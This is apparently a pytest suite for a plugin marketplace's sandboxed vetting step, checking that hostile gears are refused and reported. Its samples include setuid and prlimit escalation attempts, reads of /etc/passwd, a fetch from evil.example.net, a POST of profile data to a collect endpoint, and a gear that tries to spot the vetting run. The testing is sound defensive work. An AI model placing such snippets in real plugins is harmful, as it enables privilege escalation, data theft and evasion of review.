"""The dynamic test: real gears in the production sandbox, with generated input."""

from __future__ import annotations

import pytest

from marketplace.runtime.sandbox import probe_sandbox_level
from marketplace.vetting.checks.dynamic import check_dynamic
from marketplace.vetting.context import SandboxOptions
from tests.marketplace.vetting.conftest import codes

pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(120)]

# The host's best level, accepted whatever it is, so the test runs on every CI host;
# production keeps GEARS_SANDBOX_MIN_LEVEL (strict on Linux).
SANDBOX = SandboxOptions(min_level="dev-unsafe")

EXTENSION_OK = '''
from gears_sdk import hookimpl

@hookimpl
def gear_on_event(event, profile, config, ctx):
    return {"increment": {"traits.events_seen": 1}}
'''

WRITES_OUTSIDE = '''
from gears_sdk import hookimpl

@hookimpl
def gear_on_event(event, profile, config, ctx):
    return {"set": {"traits.vip": True}}
'''

RAISES = '''
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    return {"html": "<p>" + content["title"] + "</p>"}
'''

SLEEPS = '''
import time
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    time.sleep(5)
'''

WRITES_FILE = '''
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    with open("/etc/gears-pwned", "w") as fh:
        fh.write("x")
'''

# what a bare upload did during vetting: a setuid file, a world-readable secret, another
# process's limits, a System V segment
ESCALATES = {
    "setuid": "open('x', 'w').close(); os.chmod('x', 0o4755)",
    "utime": "open('x', 'w').close(); os.utime('x', (1, 1))",
    # a pid-addressed prlimit (the engine's pid in a plain process; its own in a namespace)
    "prlimit": "resource.prlimit(os.getpid(), resource.RLIMIT_NOFILE, "
               "resource.getrlimit(resource.RLIMIT_NOFILE))",
    "sysv": "assert ctypes.CDLL(None, use_errno=True).shmget(0, 4096, 0o1600) >= 0, "
            "ctypes.get_errno()",
}
ESCALATES_SOURCE = '''
import ctypes, errno, os, resource
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    try:
        {attack}
    except AssertionError as exc:
        raise PermissionError(os.strerror(exc.args[0])) from None
    return {{"html": "<p>escalated</p>"}}
'''

FAILS_IMPORT = '''
import this_module_does_not_exist
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    return None
'''


def test_good_template_runs_clean(vet_ctx):
    (f,) = check_dynamic(vet_ctx(sandbox=SANDBOX))
    assert f.code == "sandbox_ok", f
    assert probe_sandbox_level().level in f.message


def test_good_extension_runs_clean(vet_ctx):
    (f,) = check_dynamic(vet_ctx("acme/counter", kind="extension", module_source=EXTENSION_OK,
                                 sandbox=SANDBOX))
    assert f.code == "sandbox_ok", f


def test_patch_outside_the_write_set_is_reported(vet_ctx):
    found = check_dynamic(vet_ctx("acme/sneaky", kind="extension", module_source=WRITES_OUTSIDE,
                                  sandbox=SANDBOX))
    assert codes(found) == ["dynamic_patch_refused"]
    assert "traits.vip" in found[0].message


def test_hook_error_on_generated_input(vet_ctx):
    found = check_dynamic(vet_ctx(module_source=RAISES, sandbox=SANDBOX))
    assert codes(found) == ["dynamic_hook_error"]
    assert "KeyError" in found[0].message


def test_timeout(vet_ctx):
    found = check_dynamic(vet_ctx(module_source=SLEEPS, limits={"timeout_ms": 200},
                                  sandbox=SANDBOX))
    assert "dynamic_timeout" in codes(found)


def test_sandbox_refuses_writing_outside_the_scratch_dir(vet_ctx):
    if probe_sandbox_level().level == "dev-unsafe":
        pytest.skip("dev-unsafe confines no file system access")
    found = check_dynamic(vet_ctx(module_source=WRITES_FILE, sandbox=SANDBOX))
    # refused, and counted as an attempt (the worker's audit hook saw the open)
    assert codes(found) == ["dynamic_permission_denied", "dynamic_refused"], found


@pytest.mark.parametrize("attack", sorted(ESCALATES))
def test_vetting_run_refuses_privilege_and_process_attacks(vet_ctx, attack):
    if probe_sandbox_level().level == "dev-unsafe":
        pytest.skip("dev-unsafe has no seccomp")
    found = check_dynamic(vet_ctx(module_source=ESCALATES_SOURCE.format(
        attack=ESCALATES[attack]), sandbox=SANDBOX))
    assert codes(found)[0] == "dynamic_permission_denied", found
    assert set(codes(found)) <= {"dynamic_permission_denied", "dynamic_refused"}, found


def test_gear_that_cannot_load(vet_ctx):
    found = check_dynamic(vet_ctx(module_source=FAILS_IMPORT, sandbox=SANDBOX))
    assert codes(found) == ["dynamic_load_failed"]
    assert "this_module_does_not_exist" in found[0].message


def test_sandbox_unavailable_is_a_finding_not_a_pass(vet_ctx):
    # Asking for more isolation than any host offers is how an unusable sandbox looks.
    found = check_dynamic(vet_ctx(sandbox=SandboxOptions(level="strict", min_level="strict")))
    if probe_sandbox_level().level == "strict":
        assert codes(found) == ["sandbox_ok"]
        found = check_dynamic(vet_ctx(sandbox=SandboxOptions(level="no-such-level")))
    assert codes(found) == ["sandbox_unavailable"]
    assert found[0].severity == "high"


def test_turned_off_is_reported_too(vet_ctx):
    (f,) = check_dynamic(vet_ctx(sandbox=SandboxOptions(enabled=False)))
    assert f.code == "sandbox_unavailable"


SWALLOWS = '''
import os
import socket
import subprocess
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    for attempt in (lambda: subprocess.run(["id"]),
                    lambda: socket.create_connection(("203.0.113.9", 443), timeout=0.5),
                    lambda: os.system("id"),
                    lambda: open("/etc/passwd").read(),
                    lambda: ctx.secrets.get("undeclared"),
                    lambda: ctx.http.get("https://evil.example.net/x")):
        try:
            attempt()
        except Exception:
            pass
    return {"html": "<p>all good</p>"}
'''

TELLS = '''
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    text = repr((ctx.workspace, ctx.installation, profile, content, config)).lower()
    if "vet" in text or "test" in text:
        raise RuntimeError("recognised the vetting run: " + text[:200])
    return {"html": "<p>hi</p>"}
'''

CALLS_HOME = '''
from gears_sdk import hookimpl

@hookimpl
def gear_render(profile, content, config, ctx):
    ctx.http.post("http://{host}:{port}/collect", json={{"profile": profile}})
    return {{"html": "<p>hi</p>"}}
'''


def test_refusals_are_counted_even_when_the_gear_swallows_them(vet_ctx):
    found = list(check_dynamic(vet_ctx(module_source=SWALLOWS, sandbox=SANDBOX)))
    by_code = {f.code: f for f in found}
    assert "sandbox_ok" not in by_code, found
    refused = by_code["dynamic_refused"]
    assert refused.severity == "high"
    for what in ("process", "socket", "open_outside"):
        assert f"{what} x" in refused.message, refused.message
    ctx_refused = by_code["dynamic_ctx_refused"].message
    assert "secrets.get" in ctx_refused and "http.request" in ctx_refused
    assert "evil.example.net" in ctx_refused


def test_the_run_looks_like_a_workspace(vet_ctx):
    found = list(check_dynamic(vet_ctx(module_source=TELLS, sandbox=SANDBOX)))
    assert codes(found) == ["sandbox_ok"], found


def test_no_request_leaves_the_host_whatever_the_operator_allows(vet_ctx, monkeypatch):
    import http.server
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        monkeypatch.setenv("GEARS_HTTP_ALLOW_PRIVATE_HOSTS", "127.0.0.1")
        port = server.server_address[1]
        ctx = vet_ctx(module_source=CALLS_HOME.format(host="127.0.0.1", port=port),
                      sandbox=SANDBOX, permissions={
                          "network": [f"127.0.0.1:{port}"],
                          "profile": {"read": ["attributes.first_name"], "write": []}})
        found = list(check_dynamic(ctx))
    finally:
        server.shutdown()
    assert hits == []
    requests = [f for f in found if f.code == "dynamic_http_request"]
    assert requests and "POST 127.0.0.1" in requests[0].message, found
    assert requests[0].severity == "info"
